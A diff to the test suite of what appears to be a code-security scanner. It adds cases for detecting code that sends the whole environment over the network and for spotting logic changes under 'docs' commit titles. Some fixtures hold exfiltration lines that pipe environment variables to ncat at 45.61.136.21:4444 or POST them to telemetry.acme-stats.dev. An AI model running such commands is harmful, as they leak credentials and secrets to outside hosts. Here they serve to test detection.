@@ -586,6 +586,27 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/events.js', ['({ API_URL } = process.env);', "await fetch(API_URL, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
   });
 
+  it('reads a string literal\'s line break as one: a fake program written by a test (`"#!/bin/sh\\ncat\\n"`) is cat, not netcat', () => {
+    // A test that copies the environment for a child process and writes a fake pager beside it (a replay of a CLI library rated it high).
+    expect(sent('tests/test_pager.py', ['    pager = tmp_path / "pager"', '    pager.write_text("#!/bin/sh\\ncat\\n", encoding="UTF-8")', '    pager.chmod(0o755)', '    saved = dict(os.environ)', '    subprocess.run([sys.executable, "-m", "app"], env=saved)'])).toEqual([]);
+    expect(sent('test/editor.test.js', ["  fs.writeFileSync(editor, '#!/bin/sh\\ncat > out.txt\\n');", '  const env = JSON.stringify(process.env);'])).toEqual([]);
+    // netcat itself is still netcat: after a line break in the literal, behind an escaped backslash, and in a shell script with its alias bypassed.
+    const whole = ['high', 'The whole environment is sent over the network'];
+    expect(sent('src/diag.py', ['    payload = repr(dict(os.environ))', '    subprocess.run("id\\nncat 45.61.136.21 4444", shell=True, input=payload)'])).toEqual([[...whole, 11]]);
+    expect(sent('src/diag.py', ['    payload = repr(dict(os.environ))', '    subprocess.run("\\\\ncat 45.61.136.21 4444", shell=True, input=payload)'])).toEqual([[...whole, 11]]);
+    expect(sent('scripts/diag.sh', ['env > /tmp/e', '\\ncat 45.61.136.21 4444 < /tmp/e'])).toEqual([[...whole, 11]]);
+  });
+
+  it('reads one variable written into Python\'s environment (monkeypatch.setitem, patch.dict, os.environ.update) as no environment taken', () => {
+    expect(sent('tests/test_upload.py', ['    monkeypatch.setitem(app.os.environ, "PAGER", str(fake))', '    monkeypatch.delitem(os.environ, "LESS", raising=False)', '    requests.post(f"{server.url}/upload", data=b"x")'])).toEqual([]);
+    expect(sent('tests/test_proxy.py', ['    with mock.patch.dict(os.environ, {"HTTPS_PROXY": proxy.url}):', '        r = requests.post(server.url, data="ping")'])).toEqual([]);
+    expect(sent('src/app/boot.py', ['    os.environ.update({"TZ": "UTC"})', '    requests.post(HEALTH_URL, json={"up": True})'])).toEqual([]);
+    // The environment read whole on the same line or the next one is still taken.
+    const whole = ['high', 'The whole environment is sent over the network'];
+    expect(sent('tests/test_upload.py', ['    monkeypatch.setitem(os.environ, "X", "1")', '    requests.post("https://telemetry.acme-stats.dev/c", json=dict(os.environ))'])).toEqual([[...whole, 12]]);
+    expect(sent('tests/test_upload.py', ['    with mock.patch.dict(os.environ, dict(os.environ)):', '        requests.post("https://telemetry.acme-stats.dev/c", data="x")'])).toEqual([[...whole, 11]]);
+  });
+
   it('reports variables picked from the environment by a secret\'s word and sent out, anywhere in the file', () => {
     const picked = 'Environment variables named like secrets are collected and sent over the network';
     // The GhostAction collector as a script a workflow runs: a function apart from the upload.
@@ -3775,6 +3796,17 @@ describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
     for (const title of ['Format code', 'Formatting', 'chore: format code with clang-format', 'Reformat all files', 'Format C++ sources', 'Format chrono.h', 'format: run clang-format', 'Format with clang-format']) {
       expect([title, claimIn('include/strfmt/chrono.h', code, title)]).toEqual([title, ['include/strfmt/chrono.h']]);
     }
+  });
+
+  it('a Python type comment rewritten as an annotation (`out = []  # type: list[str]` to `out: list[str] = []`) changes no logic; another value, target or a call in the annotation still does', () => {
+    const rewrite = (added: string, removed: string) => ['@@ -621,7 +621,7 @@ def split_arg_string(string: str) -> list[str]:', '     lex.whitespace_split = True', `-${removed}`, `+${added}`, ' ', '     try:'].join('\n');
+    expect(claimIn('src/clicky/completion.py', rewrite('    out: list[str] = []', '    out = []  # type: list[str]'), 'Fix docs and changelog')).toEqual([]);
+    expect(claimIn('src/clicky/core.py', rewrite('        self.timeout: float | None = timeout', '        self.timeout = timeout  # type: t.Optional[float]'), 'docs: fix typo')).toEqual([]);
+    expect(claimIn('src/clicky/core.py', rewrite('    HANDLERS: dict[str, "Handler"] = {}', '    HANDLERS: t.Dict = {}'), 'docs: fix typo')).toEqual([]);
+    expect(claimIn('src/clicky/completion.py', rewrite('    out: list[str] = [sys.argv[0]]', '    out = []  # type: list[str]'), 'Fix docs and changelog')).toEqual(['src/clicky/completion.py']);
+    expect(claimIn('src/clicky/completion.py', rewrite('    args: list[str] = []', '    out = []  # type: list[str]'), 'Fix docs and changelog')).toEqual(['src/clicky/completion.py']);
+    expect(claimIn('src/clicky/completion.py', rewrite('    out: load_type(os.environ["T"]) = []', '    out = []'), 'Fix docs and changelog')).toEqual(['src/clicky/completion.py']);
+    expect(claimIn('src/clicky/completion.py', rewrite('    else: out = [1]', '    else: out = []'), 'Fix docs and changelog')).toEqual(['src/clicky/completion.py']);
   });
 
   it('a Python hunk with no triple quote that shows docstring markup (Args:, a Sphinx field, an argument description) lies inside the docstring', () => {
